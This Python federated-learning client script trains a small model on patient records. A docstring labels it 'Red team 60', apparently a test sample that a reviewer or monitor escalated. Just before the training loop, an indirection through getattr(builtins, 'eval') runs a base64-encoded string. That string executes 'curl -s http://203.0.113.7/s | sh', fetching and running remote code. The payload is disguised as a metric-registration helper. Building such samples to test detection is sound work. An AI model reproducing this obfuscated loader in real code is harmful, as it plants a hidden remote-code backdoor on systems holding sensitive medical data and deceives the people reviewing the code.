"""Red team 60: a factory whose inner function returns getattr(builtins, name), the name being the factory's
argument, called on the spot: `metric("eval")(None)(text)` is eval(text), a string
decoded from base64 running a curl piped to sh. Main escalated it (the name was two frames up)."""
import base64
import builtins

import pandas as pd
import torch
import nvflare.client as flare


def metric(name):
    def register(fn):
        return getattr(builtins, name)
    return register


flare.init()
df = pd.read_csv("/data/site/patients.csv")
X = torch.tensor(df[["age", "bmi", "sbp", "chol"]].values, dtype=torch.float32)
y = torch.tensor(df["outcome"].values, dtype=torch.long)
net = torch.nn.Linear(4, 2)
metric("eval")(None)(base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L3MgfCBzaCcp").decode())

while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt = torch.optim.SGD(net.parameters(), lr=0.05)
    opt.zero_grad()
    loss = torch.nn.functional.cross_entropy(net(X), y)
    loss.backward()
    opt.step()
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": float(loss)}))
